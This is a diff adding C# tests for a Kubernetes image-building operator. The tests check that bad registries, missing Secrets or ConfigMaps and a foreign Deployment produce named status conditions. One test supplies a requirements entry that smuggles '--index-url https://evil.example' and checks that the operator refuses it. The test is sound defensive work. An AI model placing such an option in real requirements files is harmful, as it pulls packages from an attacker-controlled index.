@@ -1,0 +1,134 @@
+using GemmaOperator.Api;
+using GemmaOperator.Tests.Clusters;
+using k8s.Models;
+using LocalCluster.Images;
+
+namespace Operator.Tests.Flow;
+
+/// <summary>What goes wrong outside is a named condition, never a crash loop; putting it right is enough.</summary>
+public sealed class BadInputTests
+{
+    private static readonly TestCaseData[] Registries =
+    [
+        new TestCaseData(new RegistryFault(401), "Stalled", "InvalidBaseReference", "credentials").SetName("A_registry_that_refuses_us_is_named"),
+        new TestCaseData(new RegistryFault(404), "Stalled", "InvalidBaseReference", "check the name").SetName("A_base_that_does_not_exist_is_named"),
+        new TestCaseData(new RegistryFault(200, "<html>hello</html>", "text/html"), "Stalled", "InvalidBaseReference", "is this really a registry").SetName("A_web_page_in_place_of_a_registry_is_named"),
+        new TestCaseData(new RegistryFault(500), "Reconciling", "NewGeneration", "HTTP 500").SetName("A_broken_registry_is_tried_again"),
+    ];
+
+    [TestCaseSource(nameof(Registries))]
+    public async Task A_registry_that_does_not_answer_well(RegistryFault fault, string condition, string reason, string message)
+    {
+        await using var stage = await Stage.StartAsync(new ImageRegistryOptions { Fault = _ => fault });
+        await stage.ApplyAsync(stage.Image());
+        var image = await stage.UntilAsync(
+            i => i.Status?.Conditions.Any(c => c.Type == condition && c.Reason == reason && c.Message.Contains(message, StringComparison.Ordinal)) == true,
+            $"{condition}/{reason} says: {message}");
+        Assert.That(Stage.Is(image, "Ready", "False"));
+        Assert.That(await stage.ListAsync<GemmaBuild>(), Is.Empty);
+    }
+
+    [Test]
+    public async Task A_missing_Secret_is_named_and_its_creation_is_enough()
+    {
+        await using var stage = await Stage.StartAsync();
+        await stage.ApplyAsync(stage.Image(s => s with
+        {
+            Output = s.Output with { Credentials = new CredentialsSpec { Type = "Secret", SecretRef = new LocalReference { Name = "push" } } },
+        }));
+        await stage.UntilAsync(i => Stage.Is(i, "Stalled", "True", "SecretNotFound"), "Stalled/SecretNotFound");
+        await stage.Api.CreateAsync(
+            new V1Secret
+            {
+                Metadata = new V1ObjectMeta { Name = "push", NamespaceProperty = stage.Cluster.Namespace },
+                Type = "kubernetes.io/dockerconfigjson",
+                Data = new Dictionary<string, byte[]>(StringComparer.Ordinal) { [".dockerconfigjson"] = """{"auths":{"r.example":{"auth":"dTpw"}}}"""u8.ToArray() },
+            },
+            CancellationToken.None);
+        await stage.UntilReadyAsync();
+    }
+
+    [Test]
+    public async Task A_Secret_that_holds_no_credentials_is_named()
+    {
+        await using var stage = await Stage.StartAsync();
+        await stage.Api.CreateAsync(
+            new V1Secret { Metadata = new V1ObjectMeta { Name = "push", NamespaceProperty = stage.Cluster.Namespace }, Type = "Opaque" }, CancellationToken.None);
+        await stage.ApplyAsync(stage.Image(s => s with
+        {
+            Output = s.Output with { Credentials = new CredentialsSpec { Type = "Secret", SecretRef = new LocalReference { Name = "push" } } },
+        }));
+        var image = await stage.UntilAsync(i => Stage.Is(i, "Stalled", "True", "SecretNotFound"), "Stalled/SecretNotFound");
+        Assert.That(image.Status!.Conditions.Single(c => c.Type == "Stalled").Message, Does.Contain("type Opaque"));
+    }
+
+    [Test]
+    public async Task A_missing_ConfigMap_is_named_and_its_creation_is_enough()
+    {
+        await using var stage = await Stage.StartAsync();
+        await stage.ApplyAsync(stage.Image(s => s with
+        {
+            Requirements = new RequirementsSpec { ConfigMapRef = new KeyReference { Name = "reqs" } },
+            Triggers = s.Triggers with { MinInterval = "0s" },
+        }));
+        var image = await stage.UntilAsync(i => Stage.Is(i, "Stalled", "True", "ConfigMapNotFound"), "Stalled/ConfigMapNotFound");
+        Assert.That(image.Status!.Conditions.Single(c => c.Type == "Stalled").Message, Does.Contain("spec.requirements.configMapRef"));
+        await WriteRequirementsAsync(stage, "numpy==2.0.0\n");
+        await stage.UntilReadyAsync();
+
+        await WriteRequirementsAsync(stage, "numpy==2.1.0\n");
+        var changed = await stage.UntilAsync(i => i.Status!.BuildCounter == 2, "a second build starts");
+        var build = await stage.Api.GetAsync<GemmaBuild>(stage.Cluster.Namespace, changed.Status!.LatestBuild!, CancellationToken.None);
+        Assert.That(build!.Spec!.Reasons, Is.EqualTo(new[] { BuildReason.RequirementsChange }));
+    }
+
+    [Test]
+    public async Task A_requirement_that_smuggles_an_option_is_refused_by_its_line()
+    {
+        await using var stage = await Stage.StartAsync();
+        await stage.ApplyAsync(stage.Image(s => s with { Requirements = new RequirementsSpec { Inline = "numpy==2.0.0\n--index-url https://evil.example\n" } }));
+        var image = await stage.UntilAsync(i => Stage.Is(i, "Stalled", "True", "InvalidSpec"), "Stalled/InvalidSpec");
+        Assert.That(image.Status!.Conditions.Single(c => c.Type == "Stalled").Message, Does.Contain("line 2"));
+    }
+
+    [Test]
+    public async Task A_Deployment_of_somebody_else_is_never_taken_over()
+    {
+        await using var stage = await Stage.StartAsync();
+        var labels = new Dictionary<string, string>(StringComparer.Ordinal) { ["app"] = "theirs" };
+        await stage.Api.CreateAsync(
+            new V1Deployment
+            {
+                Metadata = new V1ObjectMeta { Name = "gemma", NamespaceProperty = stage.Cluster.Namespace },
+                Spec = new V1DeploymentSpec
+                {
+                    Replicas = 0,
+                    Selector = new V1LabelSelector { MatchLabels = labels },
+                    Template = new V1PodTemplateSpec
+                    {
+                        Metadata = new V1ObjectMeta { Labels = labels },
+                        Spec = new V1PodSpec { Containers = [new V1Container { Name = "c", Image = "theirs:1" }] },
+                    },
+                },
+            },
+            CancellationToken.None);
+        await stage.ApplyAsync(stage.Image());
+        var image = await stage.UntilAsync(i => Stage.Is(i, "Stalled", "True", "InvalidSpec"), "Stalled/InvalidSpec");
+        var theirs = await stage.Api.GetAsync<V1Deployment>(stage.Cluster.Namespace, "gemma", CancellationToken.None);
+        using (Assert.EnterMultipleScope())
+        {
+            Assert.That(image.Status!.Conditions.Single(c => c.Type == "Stalled").Message, Does.Contain("isn't this object's"));
+            Assert.That(theirs!.Spec.Template.Spec.Containers[0].Image, Is.EqualTo("theirs:1"));
+        }
+    }
+
+    private static Task WriteRequirementsAsync(Stage stage, string text) => stage.Api.ApplyAsync(
+        new V1ConfigMap
+        {
+            ApiVersion = "v1",
+            Kind = "ConfigMap",
+            Metadata = new V1ObjectMeta { Name = "reqs", NamespaceProperty = stage.Cluster.Namespace },
+            Data = new Dictionary<string, string>(StringComparer.Ordinal) { ["requirements.txt"] = text },
+        },
+        CancellationToken.None);
+}
